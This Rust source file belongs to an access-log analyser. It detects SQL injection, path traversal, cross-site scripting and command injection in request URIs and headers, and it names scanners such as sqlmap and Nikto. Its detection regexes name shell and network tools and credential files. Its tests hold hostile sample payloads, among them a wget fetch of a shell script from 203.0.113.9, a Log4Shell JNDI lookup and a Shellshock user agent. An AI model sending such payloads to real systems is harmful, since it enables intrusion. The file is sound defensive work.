//! What a web request is up to: its target decoded, the attacks in it, the scanner that sent it.
//!
//! The parts that an application works with are judged one by one, decoded: the path, and each parameter of the
//! query. The referer and the user agent are judged where they hold what no browser sends.

use std::borrow::Cow;
use std::sync::LazyLock;

use aho_corasick::packed;
use regex::RegexSet;
use serde_json::{Map, Value};

use super::percent::decoded;
use super::sql::{self, Libinjection};
use super::{SCANNER, URI_DECODED, WEB_ATTACK, scanners};
use crate::fields::Fields;
use crate::formats::access::{CS_REFERER, CS_URI, CS_URI_STEM, CS_USER_AGENT};

const SQL_INJECTION: &str = "sql_injection";
const PATH_TRAVERSAL: &str = "path_traversal";
const CROSS_SITE_SCRIPTING: &str = "cross_site_scripting";
const COMMAND_INJECTION: &str = "command_injection";

/// The longest part that is judged, in bytes: twice what servers accept as a request line.
const MAX_PART: usize = 16 * 1024;
/// The most parameters that are judged.
const MAX_PARAMETERS: usize = 500;

/// Texts without a suspicious byte that are suspicious all the same.
static SUSPICIOUS_TEXTS: LazyLock<Option<packed::Searcher>> =
    LazyLock::new(|| packed::Searcher::new(["..", "etc/", "proc/", "://", ".ini", "--"]));

/// Bytes of which SQL injection holds one, were it not for `--` and `information_schema`.
const SQL: u8 = 1;
/// Bytes of which a script holds one.
const SCRIPT: u8 = 2;
/// Bytes of which a command holds one, were it not for what [`COMMAND_TEXTS`] are part of.
const COMMAND: u8 = 4;
/// Bytes that make a target worth a closer look.
const SUSPICIOUS: u8 = 8;
/// Bytes that make a header worth a closer look.
const TELLTALE: u8 = 16;

/// What each byte may be part of. The patterns below are looked for only in texts that can match them.
static BYTES: [u8; 256] = {
    let mut classes = [0; 256];
    mark(&mut classes, SQL, b"'\"`();#@=<>!*|&{}\\ \t\n\r\x0b\x0c\0");
    mark(&mut classes, SCRIPT, b"<'\"`:(=;,");
    mark(&mut classes, COMMAND, b";|`\n&${<(");
    mark(&mut classes, SUSPICIOUS, b"%+ '\"<>();|`$\\{}*#!\0\t");
    mark(&mut classes, TELLTALE, b"'\"<$`{");
    let mut byte = 128;
    while byte < 256 {
        classes[byte] |= SQL | SCRIPT | COMMAND | SUSPICIOUS;
        byte += 1;
    }
    classes
};

const fn mark(classes: &mut [u8; 256], class: u8, bytes: &[u8]) {
    let mut at = 0;
    while at < bytes.len() {
        classes[bytes[at] as usize] |= class;
        at += 1;
    }
}

/// What a text's bytes may be part of.
fn classes(text: &str) -> u8 {
    text.bytes().fold(0, |classes, byte| classes | BYTES[usize::from(byte)])
}

/// Commands that need no byte of theirs.
static COMMAND_TEXTS: LazyLock<Option<packed::Searcher>> =
    LazyLock::new(|| packed::Searcher::new(["bin/", "cmd", "classloader"]));
/// What files that attackers ask for have in common.
static FILE_TEXTS: LazyLock<Option<packed::Searcher>> = LazyLock::new(|| {
    packed::Searcher::new(["etc/", "proc/", ".ini", "windows/", "web-inf", "php:", "file:", "expect:", "phar:"])
});

/// Whether a text holds one of some texts; yes, where there is no telling.
fn holds(texts: &LazyLock<Option<packed::Searcher>>, text: &str) -> bool {
    texts.as_ref().is_none_or(|texts| texts.find(text).is_some())
}

/// Files that attackers ask for, as they stand in a decoded, lower-case text with `/` for `\`.
static SENSITIVE_FILES: LazyLock<Option<RegexSet>> = LazyLock::new(|| {
    RegexSet::new([
        r"/etc/(?:passwd|shadow|group|hosts|sudoers)(?:[^\w.-]|$)",
        r"/proc/self/(?:environ|cmdline|maps|fd|root|status)",
        r"(?:^|/)(?:boot|win)\.ini(?:\W|$)",
        r"/windows/(?:system32|win\.ini)",
        r"/web-inf/web\.xml",
        r"^(?:php://(?:filter|input)|file:///?[a-z/]|expect://|phar://)",
    ])
    .ok()
});

static SCRIPTS: LazyLock<Option<RegexSet>> = LazyLock::new(|| {
    RegexSet::new([
        r"<\s*/?\s*script\b",
        r#"(?:<[a-z!/][^>]*|["'`])[\s/"'`]+on[a-z]{3,25}\s*="#,
        r"<\s*(?:svg|iframe|img|body|object|embed|math|details|video|audio|base|link|meta|style|marquee|input|form)\b[^>]*(?:\bon[a-z]{3,25}\s*=|javascript:|data:text|srcdoc|src\s*=\s*[^>\s]*\bx\b)",
        r#"(?:^|["'=\s])javascript:[^\s]*[(`]"#,
        r"<\s*(?:iframe|object|embed|svg)\b[\s/>]",
        r"data:text/html[;,]",
        r"\bdocument\.(?:cookie|location|write)\b.*[(=;]",
    ])
    .ok()
});

/// A shell's separator and a command after it. Commands that are English words must have what only a command has.
static COMMANDS: LazyLock<Option<RegexSet>> = LazyLock::new(|| {
    RegexSet::new([
        r"(?:[;|`\n]|&&|\$\(|\|\|)\s*(?:/[\w/]*/)?(?:wget|curl|whoami|uname|ifconfig|ipconfig|nslookup|netstat|powershell|tftp|busybox|chmod|printenv|passthru|phpinfo|certutil|netcat|bash|systeminfo)\b",
        r"(?:[;|`\n]|&&|\$\(|\|\|)\s*(?:/[\w/]*/)?(?:id|ls|pwd|env|dir|set|w|ps)\s*(?:$|[;|&`)#]|-[a-z]|/|>)",
        r"(?:[;|`\n]|&&|\$\(|\|\|)\s*(?:/[\w/]*/)?(?:cat|more|less|head|tail|type|rm|cp|mv|cd|sh|nc|python[23]?|perl|ruby|php|awk|find|grep|touch)\s+(?:-{1,2}[a-z]|[/~.$*<]|[a-z]:)",
        r"(?:[;|`\n]|&&|\$\(|\|\|)\s*(?:ping|sleep|timeout)\s+(?:-[a-z]\s*)?\d",
        r"(?:[;|`\n]|&&|\$\(|\|\|)\s*(?:echo|printf)\s+\S+\s*(?:[|;>`)&]|$)",
        r"(?:^|[=\s/])(?:/usr)?/bin/(?:ba|da|z|c|k)?sh\b",
        r"\bcmd(?:\.exe)?\s*/c\b",
        r"\$\{ifs\}|\$ifs\b",
        // Log4Shell, plain and nested.
        r"\$\{\s*(?:jndi:|\$\{|(?:lower|upper|env|sys|date):|::-)",
        // Shellshock.
        r"\(\)\s*\{\s*:?\s*;?\s*\}\s*;",
        r"\bclass\.module\.classloader\b",
        r"<\?php\b|<\?=",
    ])
    .ok()
});

/// Fills in what a request's fields say.
pub(super) fn enrich(fields: &Fields<'_>, wants: impl Fn(&str) -> bool, derived: &mut Map<String, Value>) {
    let text = |name: &str| fields.text(name);
    let mut attacks = Attacks::default();
    if let Some(uri) = text(CS_URI) {
        let (path, query) = uri.split_once('?').map_or((uri, None), |(path, query)| (path, Some(query)));
        if wants(URI_DECODED) {
            let mut plain = decoded(path, false).to_lowercase();
            if let Some(query) = query {
                plain.push('?');
                plain.push_str(&decoded(query, true).to_lowercase());
            }
            derived.insert(URI_DECODED.to_owned(), Value::from(plain));
        }
        if wants(WEB_ATTACK) && is_suspicious(uri) {
            attacks.judge_path(text(CS_URI_STEM).unwrap_or(path));
            attacks.judge_query(query.unwrap_or_default());
        }
    }
    if let Some(agent) = text(CS_USER_AGENT) {
        if wants(SCANNER)
            && let Some(scanner) = scanners::scanner(agent)
        {
            derived.insert(SCANNER.to_owned(), Value::from(scanner));
        }
        if wants(WEB_ATTACK) {
            attacks.judge_header(agent);
        }
    }
    if wants(WEB_ATTACK)
        && let Some(referer) = text(CS_REFERER)
    {
        attacks.judge_header(referer);
    }
    let names = attacks.names();
    if !names.is_empty() {
        derived.insert(WEB_ATTACK.to_owned(), Value::from(names));
    }
}

/// What headers are known to hold: clients send few different ones, and each of them again and again.
#[derive(Clone, Default)]
pub(crate) struct Headers {
    known: Vec<(String, Header)>,
}

/// What a referer or user agent may hold.
#[derive(Debug, Default, Clone, Copy)]
pub(crate) struct Header {
    /// Something that is worth a closer look.
    pub(crate) suspicious: bool,
    /// The name of a scanner, were it a user agent.
    pub(crate) scanner: bool,
}

impl Headers {
    /// How many are remembered: a power of two.
    const PLACES: usize = 256;

    /// Looks at a header, or remembers.
    pub(crate) fn look(&mut self, header: &str) -> Header {
        if self.known.is_empty() {
            self.known.resize_with(Self::PLACES, Default::default);
        }
        let place = usize::try_from(hash(header.as_bytes()) >> 32).unwrap_or_default() % Self::PLACES;
        let (known, seen) = &mut self.known[place];
        if known != header {
            *seen = Header { suspicious: is_suspicious_header(header), scanner: scanners::scanner(header).is_some() };
            header.clone_into(known);
        }
        *seen
    }
}

/// Where a header has its place. Whoever finds two for one place has only made them slower.
fn hash(bytes: &[u8]) -> u64 {
    let mut hash = bytes.len() as u64;
    let mut mix = |word: u64| hash = (hash ^ word).wrapping_mul(0x9e37_79b9_7f4a_7c15).rotate_left(29);
    let (words, rest) = bytes.as_chunks::<8>();
    for word in words {
        mix(u64::from_le_bytes(*word));
    }
    for byte in rest {
        mix(u64::from(*byte));
    }
    hash
}

/// Whether anything in a target is worth a closer look: one pass, and most targets end here.
pub(crate) fn is_suspicious(uri: &str) -> bool {
    classes(uri) & SUSPICIOUS != 0 || holds(&SUSPICIOUS_TEXTS, uri)
}

// One flag for each attack, which do not exclude one another.
#[allow(clippy::struct_excessive_bools)]
#[derive(Debug, Default)]
struct Attacks {
    sql: bool,
    traversal: bool,
    script: bool,
    command: bool,
}

impl Attacks {
    fn names(&self) -> Vec<&'static str> {
        let all = [
            (self.sql, SQL_INJECTION),
            (self.traversal, PATH_TRAVERSAL),
            (self.script, CROSS_SITE_SCRIPTING),
            (self.command, COMMAND_INJECTION),
        ];
        all.into_iter().filter(|(found, _)| *found).map(|(_, name)| name).collect()
    }

    fn judge_path(&mut self, path: &str) {
        let path = cut(path);
        let plain = decoded(path, false);
        let lower = plain.to_lowercase();
        self.traversal |= climbs_out_of_root(&lower) || asks_for_sensitive_file(&lower);
        // A path's segments are an application's parameters, but their words are often prose.
        self.sql |= may_be_sql(&plain)
            && (path.split('/').take(MAX_PARAMETERS).any(|segment| is_sql(&decoded(segment, false)))
                || plain.contains("/*") && is_sql(&plain));
        self.judge_text(&lower);
    }

    fn judge_query(&mut self, query: &str) {
        let query = cut(query);
        for parameter in query.split('&').take(MAX_PARAMETERS) {
            let (name, value) = parameter.split_once('=').unwrap_or(("", parameter));
            for part in [name, value] {
                if part.len() < 3 {
                    continue;
                }
                let plain = decoded(part, true);
                let lower = plain.to_lowercase();
                self.sql |= is_sql(&plain);
                self.traversal |= is_traversal_value(&lower) || asks_for_sensitive_file(&lower);
                self.judge_text(&lower);
            }
        }
    }

    fn judge_text(&mut self, lower: &str) {
        let classes = classes(lower);
        self.script |= classes & SCRIPT != 0 && matches(&SCRIPTS, lower);
        self.command |= (classes & COMMAND != 0 || holds(&COMMAND_TEXTS, lower)) && matches(&COMMANDS, lower);
    }

    /// A header is free text: only what no browser sends in it counts. It is not decoded, since a referer holds the
    /// searches of others.
    fn judge_header(&mut self, value: &str) {
        if !is_suspicious_header(value) {
            return;
        }
        let plain = unescaped_quotes(cut(value));
        let lower = plain.to_lowercase();
        self.sql |= (plain.contains(['\'', '"']) || has_sleep(value)) && is_sql(&plain);
        self.script |= lower.contains("<script");
        self.command |= lower.contains("${") && matches(&COMMANDS, &lower) || lower.contains("() {");
    }
}

fn is_suspicious_header(value: &str) -> bool {
    classes(value) & TELLTALE != 0 || has_sleep(value)
}

fn has_sleep(value: &str) -> bool {
    memchr::memmem::find(value.as_bytes(), b"leep(").is_some()
        || memchr::memmem::find(value.as_bytes(), b"LEEP(").is_some()
}

fn unescaped_quotes(value: &str) -> Cow<'_, str> {
    if value.contains('\\') { Cow::Owned(value.replace("\\\"", "\"").replace("\\x22", "\"")) } else { value.into() }
}

fn is_sql(value: &str) -> bool {
    may_be_sql(value) && sql::is_injection(&Libinjection, value)
}

/// Whether a value has anything that SQL injection needs.
fn may_be_sql(value: &str) -> bool {
    let bytes = value.as_bytes();
    let names_schema = || memchr::memchr(b'_', bytes).is_some() && memchr::memchr(b'.', bytes).is_some();
    classes(value) & SQL != 0 || memchr::memmem::find(bytes, b"--").is_some() || names_schema()
}

fn matches(set: &LazyLock<Option<RegexSet>>, text: &str) -> bool {
    set.as_ref().is_some_and(|set| set.is_match(text))
}

fn cut(text: &str) -> &str {
    let end = (0..=MAX_PART.min(text.len())).rev().find(|end| text.is_char_boundary(*end)).unwrap_or(0);
    &text[..end]
}

fn asks_for_sensitive_file(lower: &str) -> bool {
    let asks = |text: &str| holds(&FILE_TEXTS, text) && matches(&SENSITIVE_FILES, text);
    if memchr::memchr(b'\\', lower.as_bytes()).is_some() { asks(&lower.replace('\\', "/")) } else { asks(lower) }
}

/// How far a path climbs above where it starts: `a/../../b` climbs one.
fn climb(path: &str) -> i32 {
    if memchr::memmem::find(path.as_bytes(), b"..").is_none() {
        return 0;
    }
    let (mut depth, mut lowest) = (0, 0);
    for segment in path.split(['/', '\\']) {
        // Tomcat reads `..;x` as `..`.
        match segment.split(';').next().unwrap_or(segment).trim_end_matches('\0') {
            "" | "." => {}
            ".." => {
                depth -= 1;
                lowest = lowest.min(depth);
            }
            _ => depth += 1,
        }
    }
    -lowest
}

/// A request's path starts at the root: any climb leaves it. `....//` becomes `../` where `../` is cut out once.
fn climbs_out_of_root(path: &str) -> bool {
    climb(path) >= 1 || path.contains("....//") || path.contains("....\\\\")
}

/// A parameter may well be a relative link: one step up is common, two and more are not.
fn is_traversal_value(value: &str) -> bool {
    climb(value) >= 2 || value.contains("....//") || value.contains("....\\\\")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn attacks(uri: &str) -> Vec<String> {
        let (stem, query) = uri.split_once('?').unwrap_or((uri, ""));
        of(&serde_json::json!({"cs-uri": uri, "cs-uri-stem": stem, "cs-uri-query": query}))
    }

    fn fields(fields: &Value) -> Fields<'static> {
        let Value::Object(fields) = fields.clone() else { panic!("not an object") };
        fields.into()
    }

    fn of(fields: &Value) -> Vec<String> {
        let mut derived = Map::new();
        enrich(&self::fields(fields), |_| true, &mut derived);
        let found = derived.get(WEB_ATTACK).and_then(Value::as_array).into_iter().flatten();
        found.map(|name| name.as_str().unwrap().to_owned()).collect()
    }

    #[test]
    fn the_patterns_compile() {
        assert!(SENSITIVE_FILES.is_some() && SCRIPTS.is_some() && COMMANDS.is_some());
    }

    #[test]
    fn sql_injection_however_encoded() {
        for uri in [
            "/item?id=1%27%20OR%20%271%27=%271",
            "/item?id=1+UNION+SELECT+1,2,3",
            "/item?id=1%2527%2520OR%25201%253D1--",
            "/item?id=1%252527%252520OR%2525201%25253D1--",
            "/item?a=1&b=2&id=1%20AND%20SLEEP(5)",
            "/item/1%27%20or%20%271%27=%271/x",
            "/item/1/**/union/**/select/**/1,2",
            r"/item?id=1\x22 or \x221\x22=\x221",
        ] {
            assert_eq!(attacks(uri), [SQL_INJECTION], "{uri}");
        }
    }

    #[test]
    fn path_traversal_however_encoded() {
        for uri in [
            "/../../etc/passwd",
            "/static/..%2f..%2f..%2fetc%2fpasswd",
            "/a/%252e%252e%252f%252e%252e%252fsecret",
            "/cgi-bin/.%2e/.%2e/.%2e/x",
            "/icons/.%%32%65/.%%32%65/x",
            "/x/..%5c..%5cwindows%5cwin.ini",
            "/x/..%c0%af..%c0%afy",
            "/view?file=../../../../app.conf",
            "/view?file=/etc/passwd",
            "/view?file=....//....//etc",
            "/view?file=..%255c..%255cboot.ini",
            "/app/..;/..;/manager/html",
            "/view?page=php://filter/convert.base64-encode/resource=index",
        ] {
            assert_eq!(attacks(uri), [PATH_TRAVERSAL], "{uri}");
        }
    }

    #[test]
    fn scripts_and_commands() {
        for uri in [
            "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/?q=%22%20onmouseover=%22alert(1)",
            "/?u=javascript:alert(1)",
            "/?q=<img%20src=x%20onerror=alert(1)>",
        ] {
            assert_eq!(attacks(uri), [CROSS_SITE_SCRIPTING], "{uri}");
        }
        for uri in [
            "/?host=127.0.0.1;id",
            "/?host=x%0Acat%20/etc/hostname",
            "/?c=$(whoami)",
            "/?x=a|wget%20http://203.0.113.9/a.sh",
            "/?x=${jndi:ldap://203.0.113.9/a}",
            "/?x=%26%26%20ping%20-c%203%20x",
        ] {
            assert_eq!(attacks(uri), [COMMAND_INJECTION], "{uri}");
        }
        assert_eq!(of(&serde_json::json!({"cs-user-agent": "() { :;}; /bin/bash -c id"})), [COMMAND_INJECTION]);
        assert_eq!(of(&serde_json::json!({"cs-user-agent": "${${lower:j}ndi:ldap://x/a}"})), [COMMAND_INJECTION]);
        assert_eq!(of(&serde_json::json!({"cs-user-agent": "x' AND SLEEP(5)-- -"})), [SQL_INJECTION]);
    }

    #[test]
    fn benign_requests_are_left_alone() {
        for uri in [
            "/",
            "/images/Insert%20vs%20Crop.png",
            "/report?between=2024-01-01%20AND%202024-12-31",
            "/search?q=update+your+settings+and+set+a+password",
            "/search?q=select+a+gift+from+our+shop",
            "/search?q=O%27Brien",
            "/search?q=what+is+1+%2B+1",
            "/docs/a/../b.html",
            "/go?next=../home",
            "/go?next=https://www.example.com/a?b=c",
            "/search?q=I+have+a+dog;+cat+food",
            "/search?q=if+a+%3C+b",
            "/tag/c%2B%2B",
            "/?utm_source=x&utm_medium=y%20z",
            "/wiki/Caf%C3%A9_(Paris)",
            "/blog/etc/passwd-explained",
        ] {
            assert_eq!(attacks(uri), [""; 0], "{uri}");
        }
        let browser = "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0";
        let referer = "https://search.example/?q=sql+injection+%27+or+1%3D1";
        assert_eq!(of(&serde_json::json!({"cs-user-agent": browser, "cs-referer": referer})), [""; 0]);
    }

    #[test]
    fn the_target_is_decoded_in_lower_case() {
        let decoded = |uri: &str| {
            let mut derived = Map::new();
            enrich(&fields(&serde_json::json!({"cs-uri": uri})), |_| true, &mut derived);
            derived[URI_DECODED].as_str().unwrap().to_owned()
        };
        assert_eq!(decoded("/A%2Fb+c?Q=x+y%2Bz%2525"), "/a/b+c?q=x y+z%");
        assert_eq!(decoded("/%u0041%"), "/a%");
        assert_eq!(decoded("/Plain"), "/plain");
    }

    #[test]
    fn scanners_are_named() {
        let scanner = |agent: &str| {
            let mut derived = Map::new();
            enrich(&fields(&serde_json::json!({"cs-user-agent": agent})), |_| true, &mut derived);
            derived.get(SCANNER).and_then(Value::as_str).map(str::to_owned)
        };
        assert_eq!(scanner("sqlmap/1.8 (https://sqlmap.org)").as_deref(), Some("sqlmap"));
        assert_eq!(scanner("Mozilla/5.00 (Nikto/2.5.0)").as_deref(), Some("nikto"));
        assert_eq!(scanner("Mozilla/5.0 (compatible; Nmap Scripting Engine)").as_deref(), Some("nmap"));
        assert_eq!(scanner("curl/8.5.0"), None);
    }
}
